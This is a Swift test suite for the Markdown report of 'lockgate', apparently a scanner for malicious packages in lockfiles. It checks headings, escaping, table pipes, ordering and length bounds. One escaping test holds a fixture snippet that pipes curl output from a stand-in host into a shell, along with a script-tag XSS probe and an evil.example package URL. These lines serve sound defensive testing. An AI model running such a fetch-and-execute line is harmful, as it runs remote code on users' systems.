import Foundation
import LockgateCore
import Reporting
import Testing

/// The Markdown summary: outcome heading, order, escaping and length bounds.
@Suite struct MarkdownReporterTests {
    private static func markdown(_ report: ScanReport, options: ReportOptions = ReportOptions()) throws -> String {
        String(decoding: try Reporter.render(report, format: .markdown, options: options), as: UTF8.self)
    }

    @Test func headingSaysTheOutcome() throws {
        #expect(try Self.markdown(ReportFixture.report).hasPrefix("## ⛔ lockgate could not check everything"))
        let blocked = ScanReport(packages: ReportFixture.packages.filter { $0.verdict != .error }, problems: [])
        #expect(try Self.markdown(blocked).hasPrefix("## ❌ lockgate blocked 2 packages"))
        let warned = ScanReport(packages: ReportFixture.packages.filter { $0.verdict == .warn }, problems: [])
        #expect(try Self.markdown(warned).hasPrefix("## ⚠️ lockgate: nothing blocked, 2 warned"))
        #expect(try Self.markdown(ReportFixture.emptyReport).hasPrefix("## ✅ lockgate: nothing blocked"))
    }

    @Test func untrustedTextIsEscaped() throws {
        let markdown = try Self.markdown(ReportFixture.report)
        // HTML and emphasis in a message are escaped, not rendered.
        #expect(markdown.contains("known \\*credential stealer\\*"))
        #expect(markdown.contains("\\<script\\>alert(1)\\</script\\>"))
        #expect(!markdown.contains("<script>"))
        // A snippet with a backtick gets a longer fence; a pipe inside a list item needs no escape.
        #expect(markdown.contains("``require('child_process').exec(`curl http://x.example | sh`)``"))
        #expect(markdown.contains("```requests>=2.0  # see ``notes`` | x```"))
        // Scoped names and URLs are code spans, so they never mention anyone or become links.
        #expect(markdown.contains("the popular `@types/node`."))
        #expect(markdown.contains("`http://evil.example/evil-pkg-1.0.0.tgz`"))
        #expect(!markdown.contains("\u{1B}"))
    }

    @Test func pipesInTableCellsAreEscaped() throws {
        let package = PackageReport(
            ecosystem: .npm, name: "a|b", version: "1.0.0", lockfile: "dir|x/package-lock.json",
            location: SourceLocation(line: 2, column: 3), verdict: .warn,
            findings: [Finding(rule: "typosquat_candidate", severity: .warn, message: "a | b")])
        let markdown = try Self.markdown(ScanReport(packages: [package], problems: []))
        let row = try #require(markdown.split(separator: "\n").first { $0.hasPrefix("| ⚠️ warn") })
        #expect(row == "| ⚠️ warn | `a\\|b@1.0.0` | npm | `dir\\|x/package-lock.json:2` | `typosquat_candidate` |")
        #expect(markdown.contains("a \\| b"))
    }

    @Test func attentionComesFirstAndPassesAreCounted() throws {
        let markdown = try Self.markdown(ReportFixture.report)
        let error = try #require(markdown.range(of: "⛔ `broken-pkg@2.0.0`"))
        let block = try #require(markdown.range(of: "❌ `evil-pkg@1.0.0`"))
        let warn = try #require(markdown.range(of: "⚠️ `requests@>=2.0`"))
        #expect(error.lowerBound < block.lowerBound && block.lowerBound < warn.lowerBound)
        #expect(!markdown.contains("left-pad"))
        #expect(markdown.contains("✅ 2 of 7 packages passed."))
        #expect(
            markdown.contains(
                "### Could not check\n\n- `poetry.lock:7:1`: expected \\`=\\` after key \\`name\\`, found \\`\\|\\`"))
    }

    @Test func lengthIsBounded() throws {
        let packages = (0..<20).map { index in
            PackageReport(
                ecosystem: .npm, name: "pkg\(index)", version: "1.0.0", lockfile: "package-lock.json",
                location: SourceLocation(line: index + 1, column: 1), verdict: .warn,
                findings: [
                    Finding(
                        rule: "typosquat_candidate", severity: .warn, message: "close to a popular name",
                        evidence: (0..<6).map { Evidence(path: "package/f\($0).js", line: $0 + 1) })
                ])
        }
        let options = ReportOptions(evidenceLimit: 2, markdownPackageLimit: 5)
        let markdown = try Self.markdown(ScanReport(packages: packages, problems: []), options: options)
        #expect(markdown.contains("_15 more not shown; see the SARIF or JSON report._"))
        #expect(markdown.components(separatedBy: "#### ").count == 6)
        #expect(markdown.components(separatedBy: "_and 4 more_").count == 6)
    }
}
